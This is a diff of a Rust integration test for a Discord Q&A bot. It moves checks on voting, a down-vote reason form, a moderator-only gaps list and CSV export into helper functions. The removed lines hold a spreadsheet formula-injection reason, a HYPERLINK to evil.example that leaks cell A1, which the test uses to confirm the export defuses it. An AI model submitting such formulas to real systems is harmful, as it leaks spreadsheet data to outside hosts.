@@ -18,6 +18,8 @@ use dossier::store::{Store, UserHasher};
 use serde_json::{Value, json};
 
 mod moderation;
+mod scenario;
+use scenario::*;
 
 struct Bot {
     url: String,
@@ -89,171 +91,11 @@ fn buttons(reply: &Value) -> Vec<String> {
 async fn the_loop(store: Store) {
     let fake = FakeDiscord::start().await;
     let bot = Bot::start(&fake, store).await;
-
-    let answered = bot
-        .ask("When did Russia lift its arms embargo on Pakistan?")
-        .await;
-    let ids = buttons(&answered);
-    assert_eq!(
-        ids.len(),
-        3,
-        "👍, 👎 and a follow-up under an answer: {answered}"
-    );
-    let down = ids
-        .iter()
-        .find(|id| id.starts_with("f:0:"))
-        .unwrap()
-        .clone();
-    let refused = bot
-        .ask("What did the Iranian ambassador say about the pipeline?")
-        .await;
-    assert!(
-        !buttons(&refused).iter().any(|id| id.starts_with("f:")),
-        "no votes on a refusal (a follow-up may rephrase it): {refused}"
-    );
-
-    // 👎 is stored, then the form asks why (a modal, type 9).
-    let form = bot
-        .send(&fake_discord::component(&fake_discord::token(), &down))
-        .await;
-    assert_eq!(form["type"], 9, "{form}");
-    let form_id = form["data"]["custom_id"].as_str().unwrap().to_string();
-    // The form sent empty is a 👎 without a reason: acknowledged, never a second form (Discord
-    // allows no form in answer to a form).
-    let empty = bot
-        .send(&fake_discord::form_submit(
-            &fake_discord::token(),
-            &form_id,
-            "  ",
-        ))
-        .await;
-    assert_eq!(empty["type"], 4, "{empty}");
-    assert_eq!(empty["data"]["flags"], 64, "{empty}");
-    let thanks = bot
-        .send(&fake_discord::form_submit(
-            &fake_discord::token(),
-            &form_id,
-            // A spreadsheet formula as the reason: the CSV export must not keep it live.
-            "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"wrong date\")",
-        ))
-        .await;
-    assert_eq!(
-        thanks["data"]["flags"], 64,
-        "acknowledged ephemerally: {thanks}"
-    );
-    assert!(
-        thanks["data"]["content"]
-            .as_str()
-            .unwrap()
-            .contains("wrong date"),
-        "{thanks}"
-    );
-
-    // The log is written in the background; /gaps as a moderator shows both questions.
-    let mut listed = String::new();
-    let mut export = None;
-    for _ in 0..100 {
-        let token = fake_discord::token();
-        let deferred = bot
-            .send(&fake_discord::command(
-                &token,
-                "gaps",
-                &[],
-                MANAGE_GUILD,
-                &[],
-            ))
-            .await;
-        assert_eq!(
-            (&deferred["type"], &deferred["data"]["flags"]),
-            (&serde_json::json!(5), &serde_json::json!(64)),
-            "moderators see gaps alone, after a deferral: {deferred}"
-        );
-        let gaps = serde_json::json!({"data": fake.edited(&token).await.body});
-        listed = gaps["data"]["embeds"][0].to_string();
-        export = buttons(&gaps).into_iter().find(|id| id.starts_with("c:"));
-
-        if listed.contains("Iranian ambassador") && listed.contains("wrong date") {
-            break;
-        }
-        tokio::time::sleep(Duration::from_millis(50)).await;
-    }
-    assert!(listed.contains("Iranian ambassador"), "{listed}");
-    assert!(listed.contains("arms embargo"), "{listed}");
-    assert!(listed.contains("wrong date"), "{listed}");
-
-    // "Export CSV" attaches every gap to the edit of a deferral; moderators only.
-    let export = export.expect("an Export CSV button under /gaps");
-    let refused = bot
-        .send(&fake_discord::component(&fake_discord::token(), &export))
-        .await;
-    assert!(refused.to_string().contains("Only moderators"), "{refused}");
-    let token = fake_discord::token();
-    let deferred = bot
-        .send(&fake_discord::component_by(&token, &export, MANAGE_GUILD))
-        .await;
-    assert_eq!(deferred["type"], 5, "{deferred}");
-    let edited = fake.edited(&token).await;
-    let [(name, csv)] = edited.files.as_slice() else {
-        panic!("one file: {edited:?}");
-    };
-    assert_eq!(name, "dossier-gaps-7d.csv");
-    let csv = String::from_utf8(csv.clone()).unwrap();
-    assert!(
-        csv.starts_with("question,count,unanswered,unsure,down_votes,reasons,last_asked\n"),
-        "{csv}"
-    );
-    assert!(
-        csv.contains("Iranian ambassador") && csv.contains("wrong date"),
-        "{csv}"
-    );
-    let mut reader = csv::Reader::from_reader(csv.as_bytes());
-    let cells: Vec<String> = reader
-        .records()
-        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
-        .collect();
-    assert!(
-        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
-        "the formula is kept as text: {csv}"
-    );
-    assert!(
-        !cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])),
-        "no live formula: {csv}"
-    );
-    assert_eq!(
-        edited.body["attachments"][0]["filename"], "dossier-gaps-7d.csv",
-        "{}",
-        edited.body
-    );
-
-    let refused = bot
-        .send(&fake_discord::command(
-            &fake_discord::token(),
-            "gaps",
-            &[],
-            "0",
-            &[],
-        ))
-        .await;
-    assert!(
-        refused["data"]["content"]
-            .as_str()
-            .unwrap()
-            .contains("Only moderators"),
-        "{refused}"
-    );
-    // A forged vote button is refused before anything is stored.
-    let forged = bot
-        .send(&fake_discord::component(
-            &fake_discord::token(),
-            "f:7:99999999999999999999999",
-        ))
-        .await;
-    assert!(
-        forged["data"]["content"]
-            .as_str()
-            .unwrap()
-            .contains("no longer valid")
-    );
+    let down = offers_votes_on_answers_only(&bot).await;
+    asks_why_an_answer_is_voted_down(&bot, &down).await;
+    let export = lists_the_gaps_to_a_moderator(&fake, &bot).await;
+    exports_the_gaps_as_csv(&fake, &bot, &export).await;
+    refuses_gaps_to_members_and_forged_votes(&bot).await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -291,7 +133,7 @@ fn answers_flow_while_postgres_is_down_and_the_log_recovers() {
         log_questions: true,
     });
     let origin = dossier::bot::command::Origin {
-        transport: dossier::store::Transport::Gateway,
+        transport: dossier::bot::command::Transport::Gateway,
         user: 42,
         guild: None,
         channel: None,
